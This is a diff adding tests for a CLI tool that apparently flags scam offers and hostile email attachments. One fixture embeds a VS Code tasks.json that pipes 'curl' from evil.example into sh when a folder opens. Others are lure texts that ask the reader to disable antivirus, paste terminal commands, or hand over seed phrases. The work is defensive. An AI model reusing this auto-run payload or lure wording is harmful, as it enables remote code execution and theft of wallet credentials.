@@ -1,0 +1,108 @@
+import assert from 'node:assert/strict';
+import { execFile } from 'node:child_process';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, test } from 'node:test';
+import { fileURLToPath } from 'node:url';
+
+const BIN = fileURLToPath(new URL('../../../../bin/haetae.js', import.meta.url));
+const dir = mkdtempSync(join(tmpdir(), 'haetae-offer-'));
+after(() => rmSync(dir, { recursive: true }));
+
+function file(name: string, content: string | Uint8Array): string {
+  const path = join(dir, name);
+  writeFileSync(path, content);
+  return path;
+}
+
+type Ended = { code: number; stdout: string; stderr: string };
+
+function checkOffer(path: string, ...more: string[]): Promise<Ended> {
+  return new Promise((resolve) => {
+    execFile(process.execPath, [BIN, 'check', 'offer', path, ...more], (error, stdout, stderr) => {
+      resolve({ code: typeof error?.code === 'number' ? error.code : 0, stdout, stderr });
+    });
+  });
+}
+
+type Answer = {
+  signals: { rule: string; weight: number; text: string; source: string; question: string }[];
+  advice: string[];
+};
+
+test('an honest invitation: exit 0, no signal, and still advice', async () => {
+  const { code, stdout } = await checkOffer(
+    file('honest.txt', 'Please pick a time: https://calendly.com/example/intro'),
+    '--json',
+  );
+  const { signals, advice } = JSON.parse(stdout) as Answer;
+  assert.deepEqual([code, signals], [0, []]);
+  assert.match(advice.join(), /not a proof/);
+});
+
+test('a false offer: exit 1, each signal with weight, source and question', async () => {
+  const { code, stdout } = await checkOffer(
+    file('false.txt', '백신을 잠시 꺼 주세요. Paste this into the terminal.'),
+    '--json',
+  );
+  const { signals, advice } = JSON.parse(stdout) as Answer;
+  assert.equal(code, 1);
+  assert.deepEqual(
+    signals.map(({ rule, weight }) => [rule, weight]),
+    [
+      ['switch-off-protection', 3],
+      ['paste-a-command', 3],
+    ],
+  );
+  for (const { text, source, question } of signals) assert.ok(text && source && question);
+  assert.match(advice[0] ?? '', /Stop here/);
+});
+
+test('a mail with code attached: what the scan finds is a signal', async () => {
+  const tasks = JSON.stringify({
+    version: '2.0.0',
+    tasks: [
+      {
+        label: 'env',
+        type: 'shell',
+        command: 'curl -s https://evil.example/x | sh',
+        runOptions: { runOn: 'folderOpen' },
+      },
+    ],
+  });
+  const part = `--b\r\nContent-Type: application/json; name=".vscode/tasks.json"\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=".vscode/tasks.json"\r\n\r\n${Buffer.from(tasks).toString('base64')}\r\n--b--\r\n`;
+  const eml = `From: a@example.com\r\nTo: b@example.org\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nHello\r\n${part}`;
+  const { code, stdout } = await checkOffer(file('task.eml', eml), '--json');
+  const { signals } = JSON.parse(stdout) as Answer;
+  assert.equal(code, 1, stdout);
+  assert.ok(
+    signals.some(({ rule }) => rule === 'hostile-attachment' || rule === 'doubtful-attachment'),
+    stdout,
+  );
+});
+
+test('for a person: the signals, what to ask, what to do', async () => {
+  const { code, stdout } = await checkOffer(
+    file('false2.txt', 'Send me your seed phrase, put your private key in .env'),
+  );
+  assert.equal(code, 1);
+  assert.match(stdout, /recovery phrase or private key is asked for[\s\S]*→[\s\S]*1\. Stop here/);
+});
+
+test('what is no offer: exit 2, one document on standard error, nothing on standard output', async () => {
+  const program = file('program', new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 0, 0xff]));
+  const huge = file('huge.txt', 'a'.repeat(50_000_000));
+  for (const path of [
+    program,
+    huge,
+    join(dir, 'absent'),
+    dir,
+    file('broken.json', '{"messages": ['),
+    file('empty', ''),
+  ]) {
+    const { code, stdout, stderr } = await checkOffer(path, '--json');
+    assert.deepEqual([code, stdout], [2, ''], path);
+    assert.ok((JSON.parse(stderr) as { code: string }).code);
+  }
+});
